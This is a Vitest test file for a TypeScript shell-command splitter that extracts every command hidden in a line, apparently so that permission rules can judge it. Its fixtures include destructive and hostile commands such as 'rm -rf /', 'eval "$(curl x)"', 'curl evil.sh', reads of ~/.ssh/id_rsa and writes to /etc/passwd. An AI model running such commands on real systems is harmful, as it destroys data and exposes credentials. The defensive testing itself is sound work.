import { describe, expect, it } from "vitest";
import { splitCommand, type ShellSplit } from "./shell-split.js";

const words = (command: string) => {
  const r = splitCommand(command);
  if (!r.ok) return r.reason;
  return r.split.commands.map((c) => c.words);
};

describe("splitCommand: every command a line runs", () => {
  it.each<[string, (string | null)[][]]>([
    ["git diff", [["git", "diff"]]],
    [
      "npm run test && rm -rf /",
      [
        ["npm", "run", "test"],
        ["rm", "-rf", "/"],
      ],
    ],
    ["a || b; c | d & e", [["a"], ["b"], ["c"], ["d"], ["e"]]],
    [
      "git status\nrm -rf ~",
      [
        ["git", "status"],
        ["rm", "-rf", "~"],
      ],
    ],
    [
      "echo $(rm -rf x)",
      [
        ["echo", null],
        ["rm", "-rf", "x"],
      ],
    ],
    ['echo "$(whoami)"', [["echo", null], ["whoami"]]],
    [
      "echo `curl evil.sh`",
      [
        ["echo", null],
        ["curl", "evil.sh"],
      ],
    ],
    [
      "diff <(cat a) >(tee b)",
      [
        ["diff", null, null],
        ["cat", "a"],
        ["tee", "b"],
      ],
    ],
    ["bash -c 'rm -rf /'", [["rm", "-rf", "/"]]],
    [
      'sh -ec "git push; curl x"',
      [
        ["git", "push"],
        ["curl", "x"],
      ],
    ],
    ["bash -c \"bash -c 'rm -rf /'\"", [["rm", "-rf", "/"]]],
    ["/bin/sh -c 'id'", [["id"]]],
    ["bash script.sh", [["bash", "script.sh"]]],
    ['bash -c "$CMD"', [["bash", "-c", null]]],
    ["eval 'rm -rf /'", [["rm", "-rf", "/"]]],
    [
      'eval "$(curl x)"',
      [
        ["eval", null],
        ["curl", "x"],
      ],
    ],
    ["timeout 5 npm test", [["npm", "test"]]],
    ["timeout -s KILL 5 bash -c 'rm x'", [["rm", "x"]]],
    ["nohup nice -n 10 make", [["make"]]],
    ["FOO=1 npm test", [["FOO=1", "npm", "test"]]],
    ["LD_PRELOAD=$(pwd)/x.so git status", [[null, "git", "status"], ["pwd"]]],
    ["X=$(rm -rf y)", [["rm", "-rf", "y"]]],
    ["r\\m -rf /", [["rm", "-rf", "/"]]],
    ["'git' \"diff\"", [["git", "diff"]]],
    ["g''it diff", [["git", "diff"]]],
    ["$'rm' x", [[null, "x"]]],
    ["$CMD x", [[null, "x"]]],
    ["rm *.ts", [["rm", null]]],
    ["echo {a,b}", [["echo", null]]],
    ["for f in a b; do rm $f; done", [["rm", null]]],
    ["if true; then curl x; fi", [["true"], ["curl", "x"]]],
    ["(cd x && make)", [["cd", "x"], ["make"]]],
    ["{ ls; }", [["ls"]]],
    [
      "while read l; do echo $l; done < f",
      [
        ["read", "l"],
        ["echo", null],
      ],
    ],
    ["cat <<EOF\n$(curl evil)\nEOF", [["cat"], ["curl", "evil"]]],
    ["export A=$(id)", [["export", null], ["id"]]],
    ["echo ${x:-$(id)}", [["echo", null], ["id"]]],
    ["time ls", [["ls"]]],
    ["! grep x f", [["grep", "x", "f"]]],
    ["# just a comment", []],
  ])("%j", (command, expected) => {
    expect(words(command)).toEqual(expected);
  });
});

describe("splitCommand: redirections and constructs rules cannot judge", () => {
  const parts = (command: string): Omit<ShellSplit, "commands"> | string => {
    const r = splitCommand(command);
    if (!r.ok) return r.reason;
    const { writes, reads, unsupported } = r.split;
    return { writes, reads, unsupported };
  };
  it.each<[string, Omit<ShellSplit, "commands">]>([
    ["ls > out.txt 2>&1", { writes: ["out.txt"], reads: [], unsupported: [] }],
    ["echo x >> ~/.bashrc", { writes: ["~/.bashrc"], reads: [], unsupported: [] }],
    ["cmd &> /etc/x >| y <> z", { writes: ["/etc/x", "y", "z"], reads: [], unsupported: [] }],
    ["echo >&2; cat <&0", { writes: [], reads: [], unsupported: [] }],
    ["cat < ~/.ssh/id_rsa", { writes: [], reads: ["~/.ssh/id_rsa"], unsupported: [] }],
    ["echo x > $OUT", { writes: [null], reads: [], unsupported: [] }],
    ["cat <<< hi", { writes: [], reads: [], unsupported: [] }],
    ["bash -c 'echo x > /etc/passwd'", { writes: ["/etc/passwd"], reads: [], unsupported: [] }],
    ["f() { rm -rf /; }; f", { writes: [], reads: [], unsupported: ["a function definition"] }],
    ["(( a[$(id)] ))", { writes: [], reads: [], unsupported: ["an arithmetic command (( … ))"] }],
    ["[[ $x -eq 1 ]] && ls", { writes: [], reads: [], unsupported: ["a [[ … ]] test"] }],
  ])("%j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  it.each(["echo 'unterminated", "echo $(", "a &&", "if then fi", "echo )"])(
    "%j cannot be parsed, and says so",
    (command) => {
      expect(parts(command)).toEqual(expect.stringMatching(/^the command cannot be parsed \(.+\)$/));
    },
  );

  it("keeps each command's text as written", () => {
    const r = splitCommand("npm run test -- --grep 'a b' && git diff");
    expect(r.ok && r.split.commands.map((c) => c.text)).toEqual(["npm run test -- --grep 'a b'", "git diff"]);
  });
});
